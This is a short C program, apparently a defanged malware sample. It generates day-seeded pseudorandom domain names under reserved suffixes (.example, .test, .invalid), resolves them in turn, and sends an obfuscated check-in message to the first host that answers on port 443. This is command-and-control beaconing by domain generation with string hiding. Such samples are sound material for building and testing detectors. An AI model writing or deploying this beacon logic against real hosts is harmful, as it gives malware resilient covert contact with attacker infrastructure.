// hidden
// Asks for 120 names computed from the date until one exists, and reports to that one.
#include "standin.h"
int main(void) {
    begin();
    uint64_t word = (uint64_t)time(NULL) / 86400 * 0x9e3779b97f4a7c15u;
    const char *ends[] = {".example", ".test", ".invalid"};
    for (int i = 0; i < 120; i++) {
        char name[64];
        int size = 12 + i % 5, at = 0;
        for (; at < size; at++) word = word * 6364136223846793005u + 1442695040888963407u, name[at] = 'a' + (word >> 33) % 26;
        strcpy(name + at, ends[i % 3]);
        uint32_t address = ask(name, 1);
        int fd = address ? dial_to(address, 443, 2000) : -1;
        if (fd < 0) continue;
        tell(fd, "%s", (char *)HIDE("HELLO 1.4 "));
        close(fd);
        break;
    }
    return 0;
}
